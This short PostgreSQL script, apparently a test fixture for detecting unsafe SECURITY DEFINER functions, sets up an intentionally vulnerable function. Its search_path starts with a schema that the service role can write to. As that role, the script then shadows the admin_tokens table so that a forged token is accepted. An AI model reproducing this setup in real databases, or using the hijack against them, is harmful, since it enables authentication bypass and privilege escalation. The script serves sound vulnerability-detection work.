-- The path is pinned, to a schema in which a service may create.
--- finds definer on public.is_known_token
--- patch as superuser
CREATE SCHEMA plugins;
GRANT USAGE, CREATE ON SCHEMA plugins TO pawl_sts;
CREATE FUNCTION public.is_known_token(token text) RETURNS boolean
    LANGUAGE plpgsql SECURITY DEFINER
    SET search_path = plugins, public, pg_temp
AS $$ BEGIN RETURN EXISTS (SELECT FROM admin_tokens WHERE id = token); END $$;
REVOKE EXECUTE ON FUNCTION public.is_known_token(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION public.is_known_token(text) TO pawl_sts;
--- leaks as pawl_sts
CREATE TABLE plugins.admin_tokens AS SELECT 'forged'::text AS id;
GRANT SELECT ON plugins.admin_tokens TO PUBLIC;
SELECT FROM public.is_known_token('forged') AS known WHERE known;
